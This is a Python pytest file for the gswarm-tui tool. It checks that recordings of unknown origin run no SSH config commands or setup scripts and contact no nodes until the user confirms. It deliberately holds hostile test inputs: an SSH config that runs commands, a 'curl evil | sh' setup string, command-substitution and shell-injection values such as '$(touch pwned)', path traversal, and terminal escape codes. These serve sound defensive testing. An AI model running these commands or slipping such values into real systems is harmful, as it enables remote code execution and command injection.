"""Recordings of unknown origin run no command and contact no node until the user agrees."""

from __future__ import annotations

import asyncio
import io
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import redirect_stdout
from dataclasses import dataclass, replace
from pathlib import Path

import duckdb
import pytest

from gswarm_tui.cli import main
from gswarm_tui.options.arguments import parse
from gswarm_tui.run import build
from gswarm_tui.run.plan import Plan
from gswarm_tui.run.resume_notes import NOTES, read_note, write_note
from gswarm_tui.run.saved_options import save_options
from gswarm_tui.store.recording.recorder import Recorder
from tests.integration.heads import agents_of, eventually, head, nothing_left, rows
from tests.recorders import kill_recorder
from tests.terminal import PATIENCE_S
from tests.unit.store_recording import INFO, arrived, gpu_row, introduced, query

UID = "f0e1d2c3-0"
LISTED = f"made elsewhere or changed: nodes not contacted; gswarm-tui recover {UID[:8]} shows how"


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return the folder of a user with an empty state folder."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    return here


@dataclass(frozen=True)
class Trap:
    """SSH configuration file whose commands each create a file when they run."""

    config: Path

    @classmethod
    def set(cls, config: Path) -> Trap:
        trap = cls(config)
        proxy, match = trap._traces
        config.write_text(
            f'Match exec "touch {match}"\n  User mallory\nHost *\n  ProxyCommand touch {proxy}\n'
        )
        return trap

    @property
    def _traces(self) -> tuple[Path, Path]:
        return self.config.with_suffix(".proxy").absolute(), self.config.with_suffix(".match").absolute()

    @property
    def ran(self) -> bool:
        return any(trace.exists() for trace in self._traces)


def leave(path: Path, uid: str = UID, **options: object) -> None:
    """Leave an interrupted recording that somebody else made."""
    saved = json.loads(save_options(parse([], {}), Plan(("gpu01",)))) | options
    recorder = Recorder(path, replace(INFO, uid=uid, options=json.dumps(saved)), lambda _status: None)
    recorder.open()
    recorder.submit([introduced("gpu01", gpus=1), arrived(1, [gpu_row()], node="gpu01")])
    assert recorder.close(None).error == ""


def leave_own(path: Path, *words: str) -> None:
    """Leave an interrupted recording that this user made."""
    options, plan = parse(words, {})._replace(db=path), Plan(("gpu01",))

    async def start() -> None:
        build.start_recording(build.build_hub(options, plan), options, plan, words, UID).close(None)

    asyncio.run(start())


def run(*words: str, contacts: bool) -> tuple[int, str]:
    """Run a command, in a process of its own if it contacts nodes; return its exit status and output."""
    if not contacts:
        with redirect_stdout(io.StringIO()) as out:
            return main(words), out.getvalue()
    command = [sys.executable, "-m", "gswarm_tui", *words]
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False)
    return done.returncode, done.stdout


def change(path: Path, **options: object) -> None:
    """Change options in the file, or its ``uid``."""
    with duckdb.connect(str(path)) as connection:
        ((uid, text),) = connection.execute("SELECT uid, options FROM recordings").fetchall()
        changed = {**json.loads(text), **options}
        uid = changed.pop("uid", uid)
        connection.execute("UPDATE recordings SET uid = ?, options = ?", [uid, json.dumps(changed)])


@pytest.mark.parametrize("relative", [True, False])
def test_ssh_config_beside_a_downloaded_recording_runs_nothing(
    folder: Path, relative: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    trap = Trap.set(folder / "config")
    leave(folder / "run.duckdb", ssh_config="config" if relative else str(trap.config))
    assert main(["recover"]) == 0
    assert LISTED in capsys.readouterr().out
    assert main(["recover", UID, "--finish"]) == 2
    told = capsys.readouterr()
    assert f"  SSH config    {trap.config}\n" in told.out
    assert told.err == (
        f"gswarm-tui: recording {UID[:8]} was made elsewhere or changed; add --trust to connect as shown.\n"
    )
    assert not trap.ran
    assert run("recover", UID, "--finish", "--trust", contacts=True)[0] == 1
    assert trap.ran, "the trap works"


def test_every_option_that_runs_a_command_is_shown_in_full(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    nodes = [f"gpu{n:03}" for n in range(1, 1000, 2)]
    leave(
        folder / "run.duckdb",
        launcher="srun",
        job=["4711", "4711", None],
        user="ada",
        jump="hop",
        setup=True,
        agent_python="py$(id)",
        nodes=[*nodes, "evil\x1b[2J"],
    )
    setup = "true; " * 100 + "curl evil | sh\necho \x1b[2J"
    assert main(["recover", UID, "--finish", "--setup", setup]) == 2
    shown = capsys.readouterr().out.splitlines()
    (listed,) = (line.split()[1] for line in shown if line.startswith("  nodes "))
    assert listed.count(",") == 500
    assert listed.endswith(",evil\\x1b[2J")
    for name, value in {
        "launcher": "srun",
        "job": "4711",
        "user": "ada",
        "jump host": "hop",
        "SSH config": "~/.ssh/config",
        "setup": setup.replace("\n", "\\n").replace("\x1b", "\\x1b"),
        "agent Python": "py$(id)",
    }.items():
        assert f"  {name:14}{value}" in shown


CHANGES: dict[str, dict[str, object]] = {
    "nodes": {"nodes": ["gpu01", "gpu02"]},
    "user": {"user": "mallory"},
    "launcher": {"launcher": "local"},
    "setup": {"setup": False},
    "more": {"new_in_another_version": 1},
    "uid": {"uid": f"{UID}0"},
}


@pytest.mark.parametrize("changed", CHANGES)
def test_own_recording_is_contacted_only_while_its_options_are_unchanged(
    folder: Path, changed: str, capsys: pytest.CaptureFixture[str]
) -> None:
    trap, path = Trap.set(folder / "config"), folder / "run.duckdb"
    leave_own(path, "--ssh-config", str(trap.config), "--setup", "cat secret")
    change(path, **CHANGES[changed])
    if changed == "uid":
        shutil.copy(NOTES.path / f"{UID}.json", NOTES.path / f"{UID}0.json")
    assert main(["recover"]) == 0
    assert LISTED in capsys.readouterr().out
    assert not trap.ran
    assert main(["recover", UID, "--finish"]) == 2
    told = capsys.readouterr()
    assert "cat secret" not in told.out + told.err, "no other node gets the own setup"
    assert not trap.ran


@pytest.mark.parametrize("lost", [False, True])
def test_own_recording_needs_confirmation_after_its_state_folder_is_lost(folder: Path, lost: bool) -> None:
    trap = Trap.set(folder / "config")
    leave_own(folder / "run.duckdb", "--ssh-config", str(trap.config))
    if lost:
        shutil.rmtree(NOTES.path)
    status, shown = run("recover", contacts=not lost)
    assert (status, LISTED in shown) == (0, lost)
    assert trap.ran is not lost


@pytest.mark.parametrize(
    "uid", ["a'; touch pwned; '", "../../evil", "-x", "a\nb", "$(touch pwned)", "a" * 200]
)
def test_id_in_another_format_is_sent_to_no_node(
    folder: Path, uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    trap = Trap.set(folder / "config")
    leave(folder / "run.duckdb", uid, ssh_config=str(trap.config))
    assert main(["recover"]) == 0
    assert main(["recover", "1"]) == 2
    assert main(["recover", "1", "--trust"]) == 2
    assert main(["recover", "1", "--finish", "--trust"]) == 0
    told = capsys.readouterr()
    assert "is closed; 0 frames fetched" in told.out
    assert all(line.isprintable() for line in (told.out + told.err).splitlines())
    assert not trap.ran


@pytest.mark.parametrize("trusted", [False, True])
def test_options_on_the_command_line_win_over_those_in_the_file(folder: Path, trusted: bool) -> None:
    theirs, own = Trap.set(folder / "theirs"), Trap.set(folder / "own")
    leave(folder / "run.duckdb", ssh_config=str(theirs.config), jump="evil", setup=True)
    words = ["--ssh-config", str(own.config), "--jump", "hop", "--setup", "module load cuda"]
    status, shown = run("recover", UID, "--finish", *words, *["--trust"] * trusted, contacts=trusted)
    assert (status, theirs.ran, own.ran) == (1 if trusted else 2, False, trusted)
    if not trusted:
        assert "  jump host     hop\n" in shown
        assert "  setup         module load cuda\n" in shown


@pytest.fixture
def path(folder: Path) -> Iterator[Path]:
    with nothing_left(folder / "run.duckdb"):
        yield folder / "run.duckdb"


def test_recording_of_another_home_folder_is_finished_after_confirmation(
    path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with head("--launcher", "local", "--interval", "0.1", "--db", str(path)) as running:
        eventually(lambda: rows(running) > 5, "frames on disk")
        kill_recorder(path)
    ((uid,),) = query(path, "SELECT uid FROM recordings")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "elsewhere"))
    unended = "SELECT count(*) FROM recordings WHERE ended_at IS NULL"
    for answer, status in (("\r", 1), ("n\r", 1), ("y\r", 0)):
        assert query(path, unended) == [(1,)]
        assert agents_of(uid)
        with head("recover", uid, "--finish") as running:
            running.wait_for("Connect with these options? [y/N]")
            assert f"nodes         {os.uname().nodename}" in running.screen()
            running.press(answer)
            assert running.exit_status() == status
    assert query(path, unended) == [(0,)]
    eventually(lambda: agents_of(uid) == [], "the end of all that was left")


def test_heads_that_start_at_once_share_a_private_key() -> None:
    def start(number: int) -> None:
        together.wait(PATIENCE_S)
        write_note(f"a{number}", {}, "")

    for _ in range(20):
        together = threading.Barrier(4)
        with ThreadPoolExecutor(4) as heads:
            list(heads.map(start, range(4)))
        assert [read_note(f"a{number}", {}) for number in range(4)] == [""] * 4
        assert {file.name for file in NOTES.path.iterdir()} == {f"a{n}.json" for n in range(4)} | {"key"}
        assert {file.stat().st_mode & 0o777 for file in NOTES.path.iterdir()} == {0o600}
        shutil.rmtree(NOTES.path)
